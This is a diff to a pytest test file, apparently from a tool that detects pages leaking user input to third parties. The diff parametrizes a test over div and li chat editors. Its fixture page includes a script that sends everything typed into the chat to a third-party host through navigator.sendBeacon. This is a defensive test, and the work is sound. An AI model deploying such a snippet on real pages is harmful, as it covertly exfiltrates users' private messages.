@@ -56,12 +56,13 @@ async def test_secrets_payments_and_what_no_visitor_sees_are_left_alone(site: Si
     assert planted(await look(site.page(body))) == {}
 
 
-async def test_an_editor_is_written_in_like_a_field(site: Site, look: Look) -> None:
+@pytest.mark.parametrize("tag", ["div", "li"])
+async def test_an_editor_is_written_in_like_a_field(site: Site, look: Look, tag: str) -> None:
     """Chats and comments are often no field, but an element that the page lets be written in."""
     records = await look(
         site.page(
-            "<div id=chat contenteditable role=textbox data-placeholder='Your message' style='height:3em'>"
-            "<p contenteditable></p></div><script>"
+            f"<{tag} id=chat contenteditable role=textbox data-placeholder='Your message' style='height:3em'>"
+            f"<p contenteditable></p></{tag}><script>"
             f"chat.addEventListener('input', () => navigator.sendBeacon('https://{THIRD}/said', chat.innerText))"
             "</script>"
         )
